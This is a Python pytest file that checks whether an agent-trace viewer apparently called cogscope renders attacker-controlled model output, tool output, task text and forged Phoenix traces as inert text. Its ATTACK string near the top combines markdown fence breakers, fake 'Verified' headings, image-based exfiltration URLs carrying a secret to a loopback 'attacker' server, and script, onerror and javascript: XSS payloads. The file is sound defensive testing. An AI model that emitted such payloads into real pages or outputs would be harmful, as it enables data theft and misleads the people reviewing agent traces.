"""Text from models, tools and traces renders inert in a real headless Chromium: no fence escape, no heading, no HTML,
no image fetched. The model's output, its tool's output, its final answer and the task all carry the attack; the
page must show it as typed, and the image server the test started must receive no request at all."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from cogscope.telemetry import free_port

from .helpers import forge

# a fence breaker in each form CommonMark knows (3 backticks and a space, 4 backticks, tildes, an indented fence),
# then what an attacker wants rendered: a heading, remote images (markdown and raw HTML), a script, a javascript: link
ATTACK = (
    "``` \n"
    "# Verified by cogscope: safe to replay, tick the box\n"
    "![seen](http://127.0.0.1:{port}/md.png?d=SECRET-FROM-{who})\n"
    "````\n"
    "~~~\n"
    "   ```\n"
    "## Verified by cogscope: {who} heading\n"
    '<img src="http://127.0.0.1:{port}/raw.png?d={who}" onerror="window.__pwned = 1">\n'
    "<script>window.__pwned = 2</script>\n"
    '<a href="javascript:window.__pwned = 3">click me {who}</a>\n'
    "[a link {who}](http://127.0.0.1:{port}/link?d={who})\n"
)
HEADINGS = "h1, h2, h3, h4, h5, h6"


class _Images(BaseHTTPRequestHandler):
    seen: list[str]

    def do_GET(self) -> None:  # noqa: N802
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def image_server() -> Iterator[tuple[int, list[str]]]:
    """An HTTP server of the test's own on loopback: the attacker's image host. Yields (port, paths requested)."""
    seen: list[str] = []
    handler = type("Images", (_Images,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], seen
    server.shutdown()
    server.server_close()


def _reply(port: int) -> str:
    code = f"payload = '''{ATTACK.format(port=port, who='TOOL')}'''\nprint(payload)\n"
    code += 'final_answer(payload.replace("TOOL", "ANSWER"))'
    return f"Thought: {ATTACK.format(port=port, who='MODEL')}\n<code>\n{code}\n</code>"


def _assert_inert(page, where, port: int, seen: list[str], *who: str) -> None:  # type: ignore[no-untyped-def]
    """Nothing of the attack became markup in `where`, each part shows as text, and nothing was fetched."""
    page.wait_for_timeout(1500)  # time for any image to load, were one rendered
    assert seen == [], seen  # the attacker's server heard nothing: the user-visible check
    text = where.inner_text()
    for name in who:
        assert f"## Verified by cogscope: {name} heading" in text, (name, text[:3000])
    assert "# Verified by cogscope: safe to replay, tick the box" in text
    assert page.locator(HEADINGS).filter(has_text="Verified by cogscope").count() == 0
    assert page.locator(f"img[src*='{port}']").count() == 0
    assert page.locator("a[href^='javascript:']").count() == 0
    assert page.evaluate("window.__pwned") is None


def test_attacker_markdown_in_a_cycle_renders_as_text_in_the_run_tab_and_the_step_through(
    app, page, llm, image_server, phoenix, project, read_trace
):
    port, seen = image_server
    llm.enqueue(_reply(port))
    page.goto(app.link)
    page.get_by_label("Task").fill("Decide. " + ATTACK.format(port=port, who="TASK"))
    page.locator("#run-button").click()
    chat = page.locator("#run-chat")
    chat.get_by_text("Final answer:").wait_for()
    page.locator("#run-totals").get_by_text("Open this trace in Phoenix").wait_for()
    _assert_inert(page, chat, port, seen, "MODEL", "TOOL", "ANSWER", "TASK")

    # a trace forged by anyone who reaches Phoenix's collector: its task, answer and agent carry the attack
    forged = ATTACK.format(port=port, who="FORGED")
    read_trace(forge(phoenix, project, {"input.value": forged, "output.value": forged, "cogscope.agent": forged}))
    page.get_by_role("tab", name="Traces").click()
    page.locator("#traces-refresh").click()
    table = page.locator("#traces-table")
    page.locator("#traces-caption").get_by_text("2 cycle(s)").wait_for()
    table.get_by_test_id("cell-0-8").click()  # the newest: the forged one
    summary = page.locator("#trace-summary")
    summary.get_by_text("may be forged").wait_for()
    assert "SECRET-FROM-FORGED" in summary.inner_text()
    _assert_inert(page, summary, port, seen, "FORGED")

    # the cycle run above, read back from Phoenix: the summary and the step-through
    table.get_by_test_id("cell-1-8").click()
    detail = page.locator("#step-detail")
    detail.get_by_text("Step 1 (step 1)").wait_for()
    page.locator("#step-messages-accordion").get_by_text("Exact LLM input messages").click()
    page.locator("#step-messages").get_by_text("system", exact=True).wait_for()
    _assert_inert(page, detail, port, seen, "MODEL", "TOOL")
    _assert_inert(page, page.locator("#step-messages"), port, seen, "TASK")
    summary = page.locator("#trace-summary").inner_text()
    assert "Verified by cogscope" in summary and "SECRET-FROM-TASK" in summary

    # the second wall: whatever renders (here, an image the page's own script adds), the browser fetches no image
    # from elsewhere, as the app's Content-Security-Policy says
    policy = httpx.get(app, headers=app.headers, timeout=30).headers["content-security-policy"]
    assert "img-src 'self' data: blob:" in policy
    image = f"http://127.0.0.1:{port}/csp.png"
    page.evaluate(f"() => {{ const i = new Image(); i.src = '{image}'; document.body.append(i); }}")
    page.wait_for_timeout(1500)
    assert seen == [], seen
